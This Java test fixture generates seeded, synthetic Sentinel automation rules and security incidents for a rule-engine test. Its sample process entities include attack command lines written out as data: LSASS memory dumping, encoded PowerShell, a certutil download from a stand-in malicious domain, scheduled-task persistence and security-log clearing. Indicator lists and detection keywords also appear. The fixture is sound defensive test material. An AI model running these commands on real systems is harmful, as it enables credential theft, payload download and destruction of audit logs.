package io.vigil.automation.engine;

import io.vigil.incident.EntityKind;
import io.vigil.shared.JsonInput;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Automation rules and incidents shaped like those of a busy Sentinel workspace, generated from a
 * fixed seed so that every run sees the same ones. Rules are written as Sentinel's API shapes them
 * and compiled by {@link RuleParser}, as when they are saved.
 *
 * <p>Each rule has 1–5 conditions: a selective one (the incident's analytics rules, its title, a
 * label, its severity, or entities — accounts, hosts, IP addresses, URLs, file hashes, file names,
 * command lines — sometimes several of these in a Boolean Or), followed by refinements that most
 * incidents pass (exclusions of service accounts, lab hosts, test titles, internal addresses...).
 * Incidents come from one of {@value #ANALYTICS} analytics rules, carry up to three labels and a
 * given number of entities of the kinds Sentinel's analytics most often extract.
 */
final class RuleEngineFixture {
  static final int ANALYTICS = 60;

  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

  private static final String ALERT_RULES =
      "/providers/Microsoft.OperationalInsights/workspaces/soc-prod"
          + "/providers/Microsoft.SecurityInsights/alertRules/";

  private static final String[] TITLES = {
    "Suspicious sign-in from unfamiliar location",
    "Brute force attack against Azure Portal",
    "Password spray attack against Azure AD application",
    "Impossible travel activity",
    "Mass download by a single user",
    "Malware detected on endpoint",
    "Suspicious PowerShell command line",
    "Rare RDP connections",
    "Known malicious IP communication (TI map)",
    "Phishing email delivered to inbox",
    "Anomalous sign-in to privileged account",
    "New user added to built-in administrators group",
    "Suspicious inbox manipulation rule",
    "Multiple failed logons followed by success",
    "Ransomware activity detected",
    "Credential dumping: LSASS memory access",
    "Unusual volume of data exfiltrated to external domain",
    "DNS query to known DGA domain",
    "Azure Key Vault access anomaly",
    "Service principal credentials added",
    "MFA disabled for a user",
    "Suspicious process injection",
    "Office macro spawning child process",
    "Connection to TOR exit node",
    "Large number of VMs created",
    "Sign-ins from IPs that attempt sign-ins to disabled accounts",
    "Network beacon to known C2 domain",
    "Exchange SSRF autodiscover (ProxyShell)",
    "Scheduled task created for persistence",
    "Security event log cleared"
  };

  private static final String[] TITLE_KEYWORDS = {
    "sign-in", "brute force", "malware", "powershell", "phishing", "ransomware", "rdp",
    "exfiltrat", "credential", "tor exit", "privileged", "administrators", "mfa", "key vault",
    "persistence", "beacon", "inbox", "password spray"
  };

  private static final String[] PRODUCTS = {
    "Azure Sentinel",
    "Microsoft Defender for Endpoint",
    "Azure Active Directory Identity Protection",
    "Microsoft Defender for Cloud Apps",
    "Microsoft Defender for Office 365"
  };

  private static final String[] SEVERITIES = {"Informational", "Low", "Medium", "High"};

  private static final String[] TACTICS = {
    "InitialAccess", "Execution", "Persistence", "PrivilegeEscalation", "DefenseEvasion",
    "CredentialAccess", "Discovery", "LateralMovement", "Collection", "Exfiltration",
    "CommandAndControl", "Impact"
  };

  private static final String[] LABELS = {
    "VIP",
    "Tier0",
    "Finance",
    "HR",
    "Production",
    "Development",
    "Needs-Triage",
    "EU",
    "US",
    "Crown-Jewel",
    "Red-Team-Exercise",
    "Known-FP"
  };

  private static final String[] FIRST_NAMES = {
    "adele", "alex", "diego", "grady", "henrietta", "isaiah", "johanna", "joni", "lee", "lidia",
    "lynne", "megan", "miriam", "nestor", "patti", "pradeep", "raul", "sam", "ted", "tim"
  };

  private static final String[] LAST_NAMES = {
    "vance", "wilber", "siciliani", "archie", "mueller", "langer", "lauer", "sherman", "gu",
    "holloway", "robbins", "bowen", "graham", "wilke", "fernandez", "gupta", "lopez", "brown"
  };

  private static final String[] SERVICE_ACCOUNTS = {
    "svc-backup", "svc-sql", "svc-scanner", "svc-sccm", "svc-adsync", "svc-jenkins"
  };

  private static final String[] GOOD_DOMAINS = {
    "contoso.sharepoint.com",
    "login.microsoftonline.com",
    "outlook.office365.com",
    "github.com",
    "teams.microsoft.com",
    "contoso.com"
  };

  private static final String[] BAD_DOMAINS = {
    "secure-login-microsoft.xyz",
    "contoso-payroll.top",
    "cdn-update-check.net",
    "office365-verify.info",
    "invoice-share.online",
    "pastebin-raw.cc",
    "dl.freefilez.ru",
    "auth-microsoft-support.com"
  };

  private static final String[] FILE_NAMES = {
    "powershell.exe", "cmd.exe", "rundll32.exe", "mimikatz.exe", "procdump64.exe", "psexec.exe",
    "invoice_0423.docm", "payload.dll", "svchost.exe", "wmic.exe", "certutil.exe", "update.ps1"
  };

  private static final String[] COMMAND_LINES = {
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    "cmd.exe /c whoami /all",
    "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer",
    "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
    "certutil.exe -urlcache -split -f http://cdn-update-check.net/a.exe a.exe",
    "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\ProgramData\\update.ps1",
    "wevtutil cl Security",
    "net group \"Domain Admins\" /domain",
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"
  };

  private static final EntityKind[] ENTITY_KINDS = {
    EntityKind.Account,
    EntityKind.Account,
    EntityKind.Account,
    EntityKind.Account,
    EntityKind.Host,
    EntityKind.Host,
    EntityKind.Host,
    EntityKind.Ip,
    EntityKind.Ip,
    EntityKind.Ip,
    EntityKind.Url,
    EntityKind.Url,
    EntityKind.FileHash,
    EntityKind.FileHash,
    EntityKind.File,
    EntityKind.Process,
    EntityKind.Mailbox,
    EntityKind.DnsResolution
  };

  /** An analytics rule: the incidents it creates share its id, title, severity and tactics. */
  record Analytic(
      String id, String title, String severity, List<String> tactics, String productName) {}

  /** An entity of an incident, its properties as Sentinel returns them. */
  record Entity(EntityKind kind, JsonNode properties) {}

  /** What the automation runner reads of an incident, its alerts and its entities. */
  record Incident(
      String title,
      String description,
      String severity,
      String status,
      List<String> relatedAnalyticRuleIds,
      List<String> tactics,
      List<String> labels,
      String providerName,
      List<String> alertProductNames,
      List<String> alertAnalyticRuleIds,
      List<Entity> entities) {}

  private final Random random;
  private final String subscription;
  private final List<Analytic> analytics = new ArrayList<>();
  private final List<String> users = new ArrayList<>();
  private final List<String> hosts = new ArrayList<>();
  private final List<String> badHashes = new ArrayList<>();
  private final List<String> badIps = new ArrayList<>();

  RuleEngineFixture(long seed) {
    random = new Random(seed);
    subscription = guid();
    String prefix = "/subscriptions/" + subscription + "/resourceGroups/soc-rg" + ALERT_RULES;
    for (int i = 0; i < ANALYTICS; i++) {
      String product = i < TITLES.length ? PRODUCTS[0] : pick(PRODUCTS);
      String title = TITLES[i % TITLES.length] + (i < TITLES.length ? "" : " (" + product + ")");
      List<String> tactics =
          List.copyOf(new LinkedHashSet<>(List.of(pick(TACTICS), pick(TACTICS))));
      analytics.add(
          new Analytic(
              prefix + guid(), title, SEVERITIES[1 + random.nextInt(3)], tactics, product));
    }
    for (String first : FIRST_NAMES) {
      for (String last : LAST_NAMES) {
        users.add(first + "." + last);
      }
    }
    for (int i = 0; i < 120; i++) {
      hosts.add("WS-" + (1000 + random.nextInt(9000)));
    }
    for (String role : new String[] {"DC", "SQL", "WEB", "FS", "APP", "EXCH"}) {
      for (int i = 1; i <= 4; i++) {
        hosts.add("SRV-" + role + "-0" + i);
      }
    }
    for (int i = 1; i <= 6; i++) {
      hosts.add("LAB-WIN-0" + i);
    }
    for (int i = 0; i < 40; i++) {
      badHashes.add(hex(64));
    }
    for (int i = 0; i < 30; i++) {
      badIps.add(publicIp());
    }
  }

  // --- Rules ---------------------------------------------------------------------------------

  /** {@code count} compiled incident-creation rules, in run order. */
  List<CompiledRule> rules(int count, OffsetDateTime now) {
    RuleParser parser = new RuleParser(50, 20);
    List<CompiledRule> rules = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      ObjectNode body = rule(i, now);
      rules.add(parser.parse(guid(), JsonInput.body(body).object("properties"), now).rule());
    }
    rules.sort(CompiledRule.RUN_ORDER);
    return List.copyOf(rules);
  }

  private ObjectNode rule(int index, OffsetDateTime now) {
    ObjectNode body = JSON.objectNode();
    ObjectNode properties = body.putObject("properties");
    properties.put("displayName", "Automation " + index);
    properties.put("order", 1 + random.nextInt(100));
    ObjectNode logic = properties.putObject("triggeringLogic");
    logic.put("isEnabled", true);
    logic.put("triggersOn", "Incidents");
    logic.put("triggersWhen", "Created");
    if (random.nextInt(10) == 0) {
      logic.put("expirationTimeUtc", now.plusDays(1 + random.nextInt(90)).toString());
    }
    ArrayNode conditions = logic.putArray("conditions");
    int count = conditionCount();
    conditions.add(random.nextInt(8) == 0 ? or(this::selective) : selective());
    for (int i = 1; i < count; i++) {
      conditions.add(random.nextInt(12) == 0 ? or(this::refinement) : refinement());
    }
    ArrayNode actions = properties.putArray("actions");
    int actionCount = 1 + random.nextInt(3);
    for (int i = 1; i <= actionCount; i++) {
      actions.add(action(i));
    }
    return body;
  }

  /** 1 to 5 conditions; most rules have one or two. */
  private int conditionCount() {
    int r = random.nextInt(100);
    return r < 30 ? 1 : r < 60 ? 2 : r < 80 ? 3 : r < 92 ? 4 : 5;
  }

  /** A condition that picks out few incidents: the one a rule is written for. */
  private ObjectNode selective() {
    int r = random.nextInt(100);
    if (r < 40) {
      List<String> ids = new ArrayList<>();
      int n = 1 + random.nextInt(4);
      for (int i = 0; i < n; i++) {
        ids.add(pick(analytics).id());
      }
      return property("IncidentRelatedAnalyticRuleIds", "Contains", ids);
    }
    if (r < 55) {
      return switch (random.nextInt(3)) {
        case 0 -> property("IncidentTitle", "Contains", List.of(pick(TITLE_KEYWORDS)));
        case 1 -> property("IncidentTitle", "Equals", List.of(pick(analytics).title()));
        default -> property("IncidentTitle", "StartsWith", List.of(firstWords(pick(TITLES))));
      };
    }
    if (r < 63) {
      String operator = random.nextBoolean() ? "Equals" : "Contains";
      return property("IncidentLabel", operator, List.of(pick(LABELS)));
    }
    if (r < 76) {
      return property("IncidentSeverity", "Equals", List.of("High"));
    }
    return switch (random.nextInt(10)) {
      case 0 -> property("AccountName", "Equals", sample(users, 1 + random.nextInt(8)));
      case 1 -> property("HostName", "Equals", sample(hosts, 1 + random.nextInt(6)));
      case 2 -> property("HostName", "StartsWith", List.of("SRV-" + pick("DC", "SQL", "EXCH")));
      case 3 -> property("IPAddress", "Equals", sample(badIps, 1 + random.nextInt(10)));
      case 4 -> property("Url", "Contains", sample(List.of(BAD_DOMAINS), 1 + random.nextInt(3)));
      case 5 -> property("FileHashValue", "Equals", sample(badHashes, 1 + random.nextInt(20)));
      case 6 -> property("FileName", "Equals", List.of("mimikatz.exe", "procdump64.exe"));
      case 7 ->
          property("ProcessCommandLine", "Contains", List.of(pick("-enc", "lsass", "wevtutil")));
      case 8 -> property("IPAddress", "StartsWith", List.of("10."));
      default -> property("DNSDomainName", "EndsWith", List.of(pick(BAD_DOMAINS)));
    };
  }

  /** A condition most incidents pass: an exclusion or a broad filter. */
  private ObjectNode refinement() {
    return switch (random.nextInt(10)) {
      case 0 -> property("IncidentSeverity", "NotEquals", List.of("Informational"));
      case 1 -> property("IncidentSeverity", "Equals", List.of("Low", "Medium", "High"));
      case 2 -> property("IncidentLabel", "NotContains", List.of("red-team", "known-fp"));
      case 3 -> property("AccountName", "NotEquals", List.of(SERVICE_ACCOUNTS));
      case 4 -> property("HostName", "NotStartsWith", List.of("LAB-", "TEST-"));
      case 5 -> property("IncidentTitle", "NotContains", List.of("test", "simulation"));
      case 6 -> property("IPAddress", "NotStartsWith", List.of("192.168.", "127."));
      case 7 -> property("Url", "NotContains", List.of("contoso.sharepoint.com"));
      case 8 -> property("IncidentProviderName", "Equals", List.of("Azure Sentinel"));
      default -> property("IncidentDescription", "NotContains", List.of("[simulated]"));
    };
  }

  private ObjectNode or(java.util.function.Supplier<ObjectNode> inner) {
    ObjectNode condition = JSON.objectNode();
    condition.put("conditionType", "Boolean");
    ObjectNode properties = condition.putObject("conditionProperties");
    properties.put("operator", "Or");
    ArrayNode conditions = properties.putArray("innerConditions");
    int n = 2 + random.nextInt(2);
    for (int i = 0; i < n; i++) {
      conditions.add(inner.get());
    }
    return condition;
  }

  private static ObjectNode property(String name, String operator, List<String> values) {
    ObjectNode condition = JSON.objectNode();
    condition.put("conditionType", "Property");
    ObjectNode properties = condition.putObject("conditionProperties");
    properties.put("propertyName", name);
    properties.put("operator", operator);
    ArrayNode array = properties.putArray("propertyValues");
    values.forEach(array::add);
    return condition;
  }

  private ObjectNode action(int order) {
    ObjectNode action = JSON.objectNode();
    action.put("order", order);
    ObjectNode config;
    switch (random.nextInt(3)) {
      case 0 -> {
        action.put("actionType", "AddIncidentTask");
        config = action.putObject("actionConfiguration");
        config.put("title", "Check " + pick(TITLE_KEYWORDS));
        config.put("description", "<p>Follow the <b>runbook</b> for this alert.</p>");
      }
      case 1 -> {
        action.put("actionType", "ModifyProperties");
        config = action.putObject("actionConfiguration");
        config.put("severity", pick(SEVERITIES));
        config.putArray("labels").addObject().put("labelName", pick(LABELS));
      }
      default -> {
        action.put("actionType", "RunPlaybook");
        config = action.putObject("actionConfiguration");
        config.put(
            "logicAppResourceId",
            "/subscriptions/"
                + subscription
                + "/resourceGroups/soc-rg/providers/Microsoft.Logic/workflows/playbook-"
                + random.nextInt(20));
        config.put("tenantId", guid());
      }
    }
    return action;
  }

  // --- Incidents -----------------------------------------------------------------------------

  /** {@code count} incidents, each with between {@code minEntities} and {@code maxEntities}. */
  List<Incident> incidents(int count, int minEntities, int maxEntities) {
    List<Incident> incidents = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      incidents.add(incident(minEntities + random.nextInt(maxEntities - minEntities + 1)));
    }
    return List.copyOf(incidents);
  }

  private Incident incident(int entityCount) {
    // A few analytics rules raise most incidents.
    Analytic analytic = analytics.get((int) (ANALYTICS * Math.pow(random.nextDouble(), 2)));
    List<String> ruleIds = new ArrayList<>(List.of(analytic.id()));
    List<String> products = new ArrayList<>(List.of(analytic.productName()));
    if (random.nextInt(5) == 0) {
      Analytic other = pick(analytics);
      ruleIds.add(other.id());
      products.add(other.productName());
    }
    Set<String> labels = new LinkedHashSet<>();
    int labelCount = random.nextInt(4);
    for (int i = 0; i < labelCount; i++) {
      labels.add(pick(LABELS));
    }
    List<Entity> entities = new ArrayList<>();
    for (int i = 0; i < entityCount; i++) {
      entities.add(entity(pick(ENTITY_KINDS)));
    }
    String severity = random.nextInt(5) == 0 ? pick(SEVERITIES) : analytic.severity();
    return new Incident(
        analytic.title(),
        "Incident raised by " + analytic.title() + " on " + entityCount + " entities.",
        severity,
        "New",
        List.copyOf(ruleIds),
        analytic.tactics(),
        List.copyOf(labels),
        random.nextInt(4) == 0 ? "Microsoft 365 Defender" : "Azure Sentinel",
        List.copyOf(new LinkedHashSet<>(products)),
        List.copyOf(ruleIds),
        List.copyOf(entities));
  }

  private Entity entity(EntityKind kind) {
    ObjectNode p = JSON.objectNode();
    switch (kind) {
      case Account -> {
        String name = random.nextInt(30) == 0 ? pick(SERVICE_ACCOUNTS) : pick(users);
        p.put("accountName", name);
        p.put("ntDomain", "CONTOSO");
        p.put("upnSuffix", "contoso.com");
        p.put("aadUserId", guid());
        p.put("sid", "S-1-5-21-1004336348-1177238915-682003330-" + (1000 + random.nextInt(9000)));
        p.put("displayName", name.replace('.', ' '));
        p.put("isDomainJoined", true);
      }
      case Host -> {
        String name = pick(hosts);
        p.put("hostName", name);
        p.put("netBiosName", name);
        p.put("dnsDomain", "corp.contoso.com");
        p.put("ntDomain", "CONTOSO");
        p.put("osFamily", "Windows");
        p.put("osVersion", name.startsWith("SRV") ? "10.0.20348" : "10.0.22631");
        p.put("azureID", "/subscriptions/" + subscription + "/virtualMachines/" + name);
      }
      case Ip -> {
        int r = random.nextInt(10);
        String address =
            r < 4
                ? "10."
                    + random.nextInt(256)
                    + "."
                    + random.nextInt(256)
                    + "."
                    + random.nextInt(256)
                : r < 6 ? pick(badIps) : r < 7 ? "192.168.1." + random.nextInt(256) : publicIp();
        p.put("address", address);
        ObjectNode location = p.putObject("location");
        location.put("countryCode", pick("US", "DE", "NL", "RU", "CN", "BR"));
        location.put("asn", 1000 + random.nextInt(60000));
      }
      case Url -> {
        String domain = random.nextInt(3) == 0 ? pick(BAD_DOMAINS) : pick(GOOD_DOMAINS);
        p.put("url", "https://" + domain + "/" + hex(8) + "/index.html?id=" + random.nextInt());
      }
      case FileHash -> {
        p.put("algorithm", "SHA256");
        p.put("hashValue", random.nextInt(4) == 0 ? pick(badHashes) : hex(64));
      }
      case File -> {
        p.put("fileName", pick(FILE_NAMES));
        p.put("directory", pick("C:\\Windows\\System32", "C:\\Users\\Public", "C:\\ProgramData"));
      }
      case Process -> {
        p.put("commandLine", pick(COMMAND_LINES));
        p.put("processId", String.valueOf(100 + random.nextInt(30000)));
        p.put("creationTimeUtc", "2025-06-0" + (1 + random.nextInt(9)) + "T10:15:00Z");
      }
      case Mailbox -> {
        String user = pick(users);
        p.put("mailboxPrimaryAddress", user + "@contoso.com");
        p.put("displayName", user.replace('.', ' '));
        p.put("upn", user + "@contoso.com");
      }
      case DnsResolution -> p.put("domainName", pick(BAD_DOMAINS));
      default -> throw new IllegalArgumentException(kind.name());
    }
    return new Entity(kind, p);
  }

  // --- Values --------------------------------------------------------------------------------

  private String guid() {
    return new UUID(random.nextLong(), random.nextLong()).toString();
  }

  private String hex(int length) {
    StringBuilder out = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      out.append(Character.forDigit(random.nextInt(16), 16));
    }
    return out.toString().toUpperCase(Locale.ROOT);
  }

  private String publicIp() {
    return (20 + random.nextInt(180))
        + "."
        + random.nextInt(256)
        + "."
        + random.nextInt(256)
        + "."
        + (1 + random.nextInt(254));
  }

  private static String firstWords(String title) {
    String[] words = title.split(" ");
    return words.length < 2 ? title : words[0] + " " + words[1];
  }

  private <T> T pick(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  @SafeVarargs
  private <T> T pick(T... values) {
    return values[random.nextInt(values.length)];
  }

  private List<String> sample(List<String> values, int n) {
    Set<String> sample = new LinkedHashSet<>();
    while (sample.size() < Math.min(n, values.size())) {
      sample.add(pick(values));
    }
    return List.copyOf(sample);
  }
}
